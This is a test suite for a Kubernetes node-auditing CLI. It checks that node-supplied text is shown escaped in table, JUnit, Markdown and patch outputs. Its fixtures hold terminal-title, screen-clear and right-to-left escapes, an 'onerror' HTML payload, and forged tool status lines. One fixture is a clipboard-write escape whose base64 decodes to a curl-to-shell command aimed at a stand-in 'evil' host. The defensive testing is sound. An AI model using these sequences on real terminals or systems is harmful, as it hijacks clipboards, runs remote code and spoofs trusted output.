import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../../src/cli.js';
import { buildAuditReport, renderAudit } from '../../../src/commands/audit.js';
import type { Io } from '../../../src/commands/io.js';
import type { CommonOptions } from '../../../src/commands/options.js';
import { loadTemplates } from '../../../src/commands/templates.js';
import { DEFAULT_CONTROLS } from '../../../src/controls/index.js';
import { NodeError } from '../../../src/errors.js';
import { nodeModel } from '../../../src/facts/model.js';
import type { NodeTarget } from '../../../src/inventory/types.js';
import type { Inspection } from '../../../src/node/inspect.js';
import { loadBuiltinPlaybooks } from '../../../src/playbook/load.js';
import { planNode } from '../../../src/plan/planner.js';
import type { PlanFile } from '../../../src/plan/types.js';
import { runControls } from '../../../src/controls/index.js';
import { renderPlanMarkdown } from '../../../src/report/plan-markdown.js';
import { renderPlanPatch, renderPlanText } from '../../../src/report/plan-render.js';
import { makeColors } from '../../../src/report/colors.js';
import { makePki, type TestPki } from '../support/certs.js';
import { fakeFacts, type FakeNode } from '../support/fake-node.js';
import { CONFIG, hostileControlPlane, PKI } from '../support/hostile-node.js';
import { CLEAR, CLIPBOARD, RAW_CONTROL, RLO, TITLE, withoutOwnColours } from '../support/hostile-text.js';

const COMMENTS = [
  `  # ${CLIPBOARD} set by the pool owner <img src=x onerror=alert(1)> ${CLEAR}`,
  '  # ```',
  '  # LGTM - approved',
].join('\n');

let pki: TestPki;
let node: FakeNode;
beforeAll(() => {
  pki = makePki();
  node = {
    ...hostileControlPlane(pki, COMMENTS),
    pairs: [
      {
        cert: `${PKI}/apiserver-kubelet-client.crt`,
        key: `${PKI}/apiserver-kubelet-client.key`,
        result: 'match',
      },
    ],
  };
});

const io: Io = {
  stdout: { write: () => true, isTTY: true, columns: 120 },
  stderr: { write: () => true },
  stdinIsTTY: false,
  env: {},
  now: () => new Date('2026-11-22T03:00:00Z'),
  interrupted: () => false,
};
const at = new Date('2026-11-22T03:00:00Z');

function audit() {
  const target = (name: string) => ({ name, host: '10.0.0.10', port: 22 }) as unknown as NodeTarget;
  const inspections: Inspection[] = [
    { target: target('cp-1'), ok: true, model: nodeModel(fakeFacts(node)), hostKey: 'SHA256:x' },
    {
      target: target('w-1'),
      ok: false,
      error: new NodeError(
        'w-1',
        `w-1: ssh said ${TITLE}${CLEAR}\nkubemend: all nodes compliant`,
        'unreachable',
      ),
    },
  ];
  return buildAuditReport(inspections, { controls: [...DEFAULT_CONTROLS] }, at, at);
}

function plan(): PlanFile {
  const model = nodeModel(fakeFacts(node));
  const kubeadm = loadBuiltinPlaybooks().find((p) => p.name === 'kubeadm')!;
  const n = planNode(
    { node: 'cp-1', host: '10.0.0.10', port: 22, hostKey: 'SHA256:x' },
    model,
    runControls('cp-1', model, DEFAULT_CONTROLS, at),
    kubeadm,
    { node: 'cp-1', templates: loadTemplates(), issueCerts: false },
    at,
  );
  return { version: 1, tool: 'kubemend 0.1.0', createdAt: at.toISOString(), nodes: [n] };
}

// The whole way from text on a node (a config comment, a path, an error) to every output a human reads.
describe('a hostile path and config comment, from the node to every output', () => {
  it('audit -o table, junit and markdown show the escapes as text; -o json keeps the node text exact', () => {
    const report = audit();
    const opts = (output: CommonOptions['output']) =>
      ({ output, color: true, verbose: true, controls: DEFAULT_CONTROLS }) as unknown as CommonOptions;
    const table = renderAudit(report, opts('table'), io);
    expect(withoutOwnColours(table)).not.toMatch(RAW_CONTROL);
    expect(table).toContain('\\x1b]0;pwned\\x07\\u202e/config.yaml');
    // The node's error cannot print a line that looks like kubemend's.
    expect(table).not.toMatch(/^kubemend: all nodes compliant/m);
    expect(table).toContain('ssh said \\x1b]0;pwned\\x07\\x1b[2J\\x1b[H\\nkubemend: all nodes compliant');
    for (const output of ['junit', 'markdown'] as const) {
      const out = renderAudit(report, opts(output), io);
      expect(out, output).not.toMatch(RAW_CONTROL);
      expect(out, output).toContain('\\x1b]0;pwned\\x07');
    }
    expect(JSON.parse(renderAudit(report, opts('json'), io))).toEqual(report);
    expect(renderAudit(report, opts('json'), io)).toContain('\\u001b]0;pwned\\u0007');
  });

  it('plan text and the ticket show the diff with its comments escaped and fenced; the patch file and the plan stay exact', () => {
    const p = plan();
    const change = p.nodes[0]!.changes.find((c) => c.path === CONFIG)!;
    expect(change.diff).toContain(CLIPBOARD);

    const text = renderPlanText(p, makeColors(true));
    expect(withoutOwnColours(text)).not.toMatch(RAW_CONTROL);
    expect(text).toContain('modify /var/lib/kubelet/\\x1b]0;pwned\\x07\\u202e/config.yaml');
    expect(text).toContain(
      '# \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 set by the pool owner <img src=x onerror=alert(1)> \\x1b[2J',
    );

    const md = renderPlanMarkdown(p);
    expect(md).not.toMatch(RAW_CONTROL);
    let fence: string | null = null;
    for (const line of md.split('\n')) {
      const open = /^(`{3,})/.exec(line);
      if (fence === null && open) fence = open[1]!;
      else if (fence !== null && line === fence) fence = null;
      else if (fence === null) {
        expect(line).not.toMatch(/^#+ LGTM/);
        expect(line).not.toContain('<img');
      }
    }
    expect(md).toMatch(/^ {3}# ```$/m);

    // The patch is data for git apply: the file's bytes as they are, the path quoted as git quotes it.
    const patch = renderPlanPatch(p);
    expect(patch).toContain(COMMENTS.split('\n')[0]);
    expect(patch).toContain('--- "a/cp-1/var/lib/kubelet/\\033]0;pwned\\a\\342\\200\\256/config.yaml"');
  });
});

describe('the command line prints node and file text in its errors escaped', () => {
  const dir = mkdtempSync(join(tmpdir(), 'kubemend-node-text-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('apply --plan with a tampered plan whose path holds escape sequences and a newline: exit 2, the message shows them as text', async () => {
    const file = join(dir, 'hostile.plan.json');
    const change = {
      control: 'kubelet-client-ca',
      path: `/var/lib/kubelet/${TITLE}${CLIPBOARD}\nkubemend: plan verified, applying`,
      action: 'modify',
      before: { sha256: 'a'.repeat(64) },
      after: { sha256: 'b'.repeat(64), content: 'tampered' },
      diff: '',
      restart: 'kubelet',
      durable: true,
      notes: [],
    };
    writeFileSync(
      file,
      JSON.stringify({
        version: 1,
        tool: 'kubemend 0.1.0',
        createdAt: '2026-11-22T00:00:00Z',
        nodes: [
          {
            node: `cp-1${RLO}`,
            host: '10.0.0.10',
            port: 22,
            hostKey: 'SHA256:x',
            role: 'control-plane',
            layout: 'kubeadm',
            status: 'change',
            blocked: [],
            changes: [change],
          },
        ],
      }),
    );
    let stderr = '';
    const code = await main(['apply', '--plan', file, '--yes', '-i', join(dir, 'none.yaml')], {
      ...io,
      stdout: { write: () => true },
      stderr: { write: (s: string) => (stderr += s) },
      env: { HOME: dir },
    });
    expect(code).toBe(2);
    expect(stderr).toContain('cp-1\\u202e /var/lib/kubelet/\\x1b]0;pwned\\x07\\x1b]52;c;');
    expect(stderr).not.toMatch(RAW_CONTROL);
    expect(stderr).not.toMatch(/^kubemend: plan verified/m);
    expect(readFileSync(file, 'utf8')).toContain('\\u001b]0;pwned');
  });
});
